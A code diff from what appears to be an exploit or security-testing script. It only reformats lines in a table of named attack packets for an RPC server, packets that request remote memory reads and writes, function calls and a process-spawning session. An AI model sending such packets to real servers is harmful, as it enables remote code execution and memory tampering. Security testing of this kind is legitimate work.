@@ -48,9 +48,15 @@ def tensor(address: int, size: int) -> bytes:
 ATTACKS: dict[str, Callable[[str], bytes]] = {
     "popen": popen,
     "call": lambda _: packet(struct.pack("<iQi", CALL_FUNC, 4096, 0)),
-    "read": lambda _: packet(struct.pack("<i", COPY_FROM_REMOTE) + tensor(4096, 64) + struct.pack("<Q", 64)),
-    "write": lambda _: packet(struct.pack("<i", COPY_TO_REMOTE) + tensor(4096, 64) + struct.pack("<Q", 64) + bytes(64)),
-    "find": lambda _: packet(struct.pack("<ii", GET_GLOBAL_FUNC, 1) + text(RAW_STRING, b"rpc.PopenSession")),
+    "read": lambda _: packet(
+        struct.pack("<i", COPY_FROM_REMOTE) + tensor(4096, 64) + struct.pack("<Q", 64)
+    ),
+    "write": lambda _: packet(
+        struct.pack("<i", COPY_TO_REMOTE) + tensor(4096, 64) + struct.pack("<Q", 64) + bytes(64)
+    ),
+    "find": lambda _: packet(
+        struct.pack("<ii", GET_GLOBAL_FUNC, 1) + text(RAW_STRING, b"rpc.PopenSession")
+    ),
     "function": lambda _: packet(struct.pack("<iiiQ", RETURN, 1, FUNCTION, 4096)),
     "module": lambda _: packet(struct.pack("<iiiqiQ", RETURN, 2, INT, MODULE, MODULE, 4096)),
     "copy": lambda _: packet(struct.pack("<i", COPY_ACK) + bytes(1000)),
